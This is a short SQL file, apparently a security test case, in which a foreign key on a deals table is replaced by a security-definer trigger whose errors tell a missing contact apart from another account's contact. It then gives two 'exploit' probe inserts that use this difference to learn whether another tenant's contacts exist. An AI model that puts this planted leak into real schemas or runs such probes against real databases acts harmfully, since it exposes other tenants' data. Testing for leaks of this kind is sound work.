-- channel: error text
-- object: public.deals
-- says: The key became a trigger whose message separates "does not exist" from "not yours".
alter table public.deals drop constraint deals_account_id_contact_id_fkey;
create function public.check_contact()
returns trigger
language plpgsql security definer
set search_path = ''
as $$
declare
    owner_account uuid;
begin
    if new.contact_id is null then
        return new;
    end if;
    select c.account_id into owner_account from public.contacts as c where c.id = new.contact_id;
    if owner_account is null then
        raise exception 'no such contact' using errcode = '23503';
    elsif owner_account <> new.account_id then
        raise exception 'contact belongs to another account' using errcode = '42501';
    end if;
    return new;
end
$$;
create trigger check_contact before insert or update on public.deals
for each row execute function public.check_contact();
-- exploit as adam
insert into public.deals (account_id, title, contact_id)
values (:org_a, 'Probe', 'c3000000-0000-4000-8000-0000000000ff');
insert into public.deals (account_id, title, contact_id)
values (:org_a, 'Probe', 'c3000000-0000-4000-8000-00000000000b');
-- leaks when differs
